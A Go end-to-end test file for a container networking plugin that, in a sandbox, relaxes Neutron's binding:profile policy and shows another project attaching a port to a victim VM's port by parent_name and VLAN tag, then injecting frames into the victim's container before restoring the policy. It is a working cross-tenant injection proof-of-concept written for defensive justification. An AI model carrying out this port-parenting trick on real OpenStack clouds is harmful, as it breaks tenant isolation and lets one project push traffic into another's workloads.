package e2e

// Why the plugin does not use binding:profile children on a stock
// OpenStack cloud: Neutron forbids members to set binding:profile, and an
// operator who relaxes that rule opens a hole, because Neutron (ML2/OVN)
// only checks that a binding:profile parent_name exists, not that it is
// the caller's. These tests relax the rule on the sandbox's real Neutron
// and show another project sending frames into a container of demo's VM.

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gophercloud/gophercloud/v2"
	"github.com/gophercloud/gophercloud/v2/openstack/networking/v2/extensions/portsbinding"
	"github.com/gophercloud/gophercloud/v2/openstack/networking/v2/ports"
)

// relaxedPolicy is the advice an operator may find for "members cannot set
// binding:profile": let a port's owner set it on create.
const relaxedPolicy = `"create_port:binding:profile": "rule:admin_or_owner"` + "\n"

// relaxBindingProfilePolicy writes relaxedPolicy into Neutron's policy
// directory (oslo.policy rereads the rules on the next request when the
// directory changes) and returns restore, which removes the file and checks
// that Neutron refuses binding:profile to members again. The test's
// cleanup calls restore too; it runs once.
func relaxBindingProfilePolicy(t *testing.T, s *Sandbox) (restore func()) {
	t.Helper()
	dir := filepath.Join(s.Dir, "openstack", "neutron", "policy.d")
	if _, err := os.Stat(dir); err != nil {
		t.Fatalf("Neutron's policy directory: %v (sandbox/lib/openstack.sh sets policy_dirs)", err)
	}
	file := filepath.Join(dir, s.uniqueName(t, "policy")+".yaml")
	// Written aside and renamed in: Neutron never reads half a file.
	tmp := file + ".tmp"
	if err := os.WriteFile(tmp, []byte(relaxedPolicy), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, file); err != nil {
		t.Fatal(err)
	}
	demo := neutronAs(t, s, "demo") // now: cleanups run after t.Context() is done
	restored := false
	restore = func() {
		if restored {
			return
		}
		restored = true
		if err := os.Remove(file); err != nil && !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("restoring Neutron's default policy: %v", err)
			return
		}
		// The proof that the removal took effect: a member's binding:profile
		// port on demo's VM network is refused again.
		p, err := createChild(context.Background(), demo, s.Network.ID, s.VM(t, "vm1").VIFID, 4000)
		if err == nil {
			_ = ports.Delete(context.Background(), demo, p.ID).ExtractErr()
		}
		if !gophercloud.ResponseCodeIs(err, http.StatusForbidden) {
			t.Errorf("after removing %s, demo's binding:profile port: got %v, want 403 Forbidden", file, err)
		}
	}
	t.Cleanup(restore)
	return restore
}

// createChild creates, as whoever c authenticates, a port on network that
// names parent and tag in its binding:profile.
func createChild(ctx context.Context, c *gophercloud.ServiceClient, network, parent string, tag int) (*ports.Port, error) {
	return ports.Create(ctx, c, portsbinding.CreateOptsExt{
		CreateOptsBuilder: ports.CreateOpts{NetworkID: network, Name: "binding-profile-child"},
		Profile:           map[string]any{"parent_name": parent, "tag": tag},
	}).Extract()
}

// plugEndpoint makes netns ns the NIC of Neutron port p on hypervisor hv,
// as Nova and the hypervisor would plug a VM's NIC (sandbox/lib/vm.sh): a
// veth whose hypervisor end is on br-int with iface-id = the port, and the
// port's MAC and addresses on the namespace's eth0.
func (s *Sandbox) plugEndpoint(t *testing.T, hv Hypervisor, p *ports.Port, prefixLen, mtu int) string {
	t.Helper()
	ns := s.NewNetns(t, "endpoint")
	hvLink := s.uniqueName(t, "hvlink/endpoint")
	_, _ = InNetns(t.Context(), hv.Netns, "ip", "link", "del", hvLink) // left over from a killed run
	mustRun(t, "ip", "link", "add", "eth0", "netns", ns, "type", "veth", "peer", "name", hvLink, "netns", hv.Netns)
	t.Cleanup(func() { // the netns cleanup (earlier registered, later run) removes the pair
		mustRun(t, "ovs-vsctl", "--db="+hv.OVSDB, "--timeout=20", "--if-exists", "del-port", hv.Bridge, hvLink)
	})
	MustInNetns(t, ns, "ip", "link", "set", "eth0", "address", p.MACAddress, "mtu", strconv.Itoa(mtu))
	for _, ip := range p.FixedIPs {
		MustInNetns(t, ns, "ip", "addr", "add", fmt.Sprintf("%s/%d", ip.IPAddress, prefixLen), "dev", "eth0")
	}
	MustInNetns(t, ns, "ip", "link", "set", "eth0", "up")
	MustInNetns(t, hv.Netns, "ip", "link", "set", hvLink, "up")
	// Userspace datapath: TX checksum offload off on both veth ends.
	MustInNetns(t, ns, "ethtool", "-K", "eth0", "tx", "off")
	MustInNetns(t, hv.Netns, "ethtool", "-K", hvLink, "tx", "off")
	mustRun(t, "ovs-vsctl", "--db="+hv.OVSDB, "--timeout=20", "--may-exist", "add-port", hv.Bridge, hvLink,
		"--", "set", "Interface", hvLink, "external_ids:iface-id="+p.ID)
	return ns
}

// hypervisor returns the hypervisor called name.
func (s *Sandbox) hypervisor(t *testing.T, name string) Hypervisor {
	t.Helper()
	for _, hv := range s.Hypervisors {
		if hv.Name == name {
			return hv
		}
	}
	t.Fatalf("sandbox has no hypervisor %q", name)
	return Hypervisor{}
}

// With create_port:binding:profile relaxed to the port's owner, project
// alt hangs a port of its own network on demo's VM port with the VLAN of
// demo's container, and what alt's machines send on alt's network arrives
// in demo's container. With the default policy restored, Neutron refuses
// the same request.
func TestRelaxedPolicyLetsAnotherProjectInjectIntoAVM(t *testing.T) {
	r := newPluginRig(t)
	requireCloud(t, r.s, cloudOpenStack, "ovn-neutrond refuses a binding:profile parent of another project whatever the policy; real Neutron only checks the parent exists")
	requireTrunks(t, r)
	s, ctx := r.s, t.Context()
	vm1 := s.VM(t, "vm1")
	admin, alt := neutronAs(t, s, "admin"), neutronAs(t, s, "alt")

	// 1. demo's container on vm1 (trunk mode: a subport with VLAN X).
	lsA := r.createNetwork(t, "demo", "victim")
	c := strings.TrimSpace(r.mustPlugin(t, vm1, "demo", "--cred=$TOKEN", "--vif-id=$VIF_ID", "--network="+lsA, "run", "-d", "busybox:local", "sleep", "3600"))
	r.rmAtEnd(t, vm1, "demo", c)
	victim := rowOf(t, r.ps(t, vm1, "demo"), c)
	t.Logf("demo's container %.12s: VLAN %d, access port %s, Neutron port %s", c, victim.VLAN, victim.OVSPort, victim.PortID)

	// 2. The operator relaxes the policy.
	restore := relaxBindingProfilePolicy(t, s)

	// 3. alt's network, and on it a child of demo's VM port with VLAN X.
	lsB := r.createNetwork(t, "alt", "injector")
	nb, err := r.clouds["alt"].FindNetwork(ctx, lsB)
	if err != nil {
		t.Fatal(err)
	}
	if len(nb.Subnets) == 0 {
		t.Fatalf("alt's network %s has no subnet", nb.ID)
	}
	child, err := createChild(ctx, alt, nb.ID, r.vif["vm1"], victim.VLAN)
	if err != nil {
		t.Fatalf("with %s, alt's port with binding:profile {parent_name: %s (demo's vm1), tag: %d}: %v; want 201", strings.TrimSpace(relaxedPolicy), r.vif["vm1"], victim.VLAN, err)
	}
	t.Cleanup(func() {
		if err := ports.Delete(context.Background(), alt, child.ID).ExtractErr(); err != nil {
			t.Errorf("cleanup: deleting alt's port %s: %v", child.ID, err)
		}
	})
	t.Logf("Neutron made alt's port %s a child of demo's VM port %s, tag %d", child.ID, r.vif["vm1"], victim.VLAN)
	eventually(t, 10*time.Second, func() string {
		got := strings.Join(strings.Fields(s.NBCtl(t, "--bare", "--columns=parent_name,tag", "find", "Logical_Switch_Port", "name="+child.ID)), " ")
		if want := fmt.Sprintf("%s %d", r.vif["vm1"], victim.VLAN); got != want {
			return fmt.Sprintf("Logical_Switch_Port %s: parent_name, tag %q, want %q", child.ID, got, want)
		}
		return ""
	})
	if got, want := s.NBCtl(t, "lsp-get-ls", child.ID), "neutron-"+nb.ID; !strings.Contains(got, want) {
		t.Errorf("Logical_Switch_Port %s is on %q, want alt's switch %s", child.ID, got, want)
	}

	// 4. A machine of alt's on alt's network, on hv1: the port an admin
	// binds for Nova, and a namespace plugged into br-int as its NIC.
	hv := s.hypervisor(t, vm1.Hypervisor)
	var ep struct {
		ports.Port
		portsbinding.PortsBindingExt
	}
	err = ports.Create(ctx, admin, portsbinding.CreateOptsExt{
		CreateOptsBuilder: ports.CreateOpts{NetworkID: nb.ID, Name: "alt-machine", ProjectID: s.User(t, "alt").ProjectID,
			DeviceOwner: "compute:nova", DeviceID: s.uniqueName(t, "alt-machine")},
		HostID: hv.Name,
	}).ExtractInto(&ep)
	if err != nil {
		t.Fatalf("admin binding a port of alt to %s: %v", hv.Name, err)
	}
	t.Cleanup(func() {
		if err := ports.Delete(context.Background(), admin, ep.ID).ExtractErr(); err != nil {
			t.Errorf("cleanup: deleting alt's machine port %s: %v", ep.ID, err)
		}
	})
	ns := s.plugEndpoint(t, hv, &ep.Port, nb.Subnets[0].CIDR.Bits(), nb.MTU)
	for _, lsp := range []string{ep.ID, child.ID} {
		eventually(t, 20*time.Second, func() string {
			if up := s.NBCtl(t, "get", "Logical_Switch_Port", lsp, "up"); up != "true" {
				return "Logical_Switch_Port " + lsp + " is not up: " + up
			}
			return ""
		})
	}

	// alt's machine pings alt's child port and the subnet's broadcast: the
	// ARP requests and echo requests go wherever alt's child port is, that
	// is out of vm1's NIC with VLAN X, into demo's container.
	capture := StartCapture(t, vm1.Netns, victim.OVSPort, "ether src "+ep.MACAddress)
	childIP := child.FixedIPs[0].IPAddress
	bcast := broadcastOf(nb.Subnets[0].CIDR)
	_, _ = InNetns(ctx, ns, "ping", "-n", "-c", "3", "-i", "0.3", "-W", "1", childIP)
	_, _ = InNetns(ctx, ns, "ping", "-n", "-b", "-c", "3", "-i", "0.3", "-W", "1", bcast)
	time.Sleep(500 * time.Millisecond)
	arrived := capture.Stop()
	broadcasts := 0 // frames demo's container takes in whatever its MAC
	for _, l := range arrived {
		if strings.Contains(l, "> ff:ff:ff:ff:ff:ff") {
			broadcasts++
		}
	}
	if len(arrived) == 0 || broadcasts == 0 {
		t.Errorf("frames from alt's machine (%s) on demo's access port %s in vm1: %d, %d of them broadcasts; want both > 0 (the injection):\n%s",
			ep.MACAddress, victim.OVSPort, len(arrived), broadcasts, strings.Join(arrived, "\n"))
	} else {
		t.Logf("%d frames from alt's machine %s on demo's access port %s (VLAN %d), e.g.:\n%s",
			len(arrived), ep.MACAddress, victim.OVSPort, victim.VLAN, strings.Join(arrived[:min(4, len(arrived))], "\n"))
	}

	// 5. Default policy back: the same request is refused.
	restore()
	if p, err := createChild(ctx, alt, nb.ID, r.vif["vm1"], victim.VLAN); !gophercloud.ResponseCodeIs(err, http.StatusForbidden) {
		if err == nil {
			_ = ports.Delete(context.Background(), alt, p.ID).ExtractErr()
		}
		t.Errorf("with the default policy, alt's binding:profile child of demo's VM port: got %v, want 403 Forbidden", err)
	}
}

// broadcastOf is the broadcast address of an IPv4 prefix.
func broadcastOf(p netip.Prefix) string {
	a := p.Masked().Addr().As4()
	v := binary.BigEndian.Uint32(a[:]) | (uint32(1)<<(32-p.Bits()) - 1)
	binary.BigEndian.PutUint32(a[:], v)
	return netip.AddrFrom4(a).String()
}
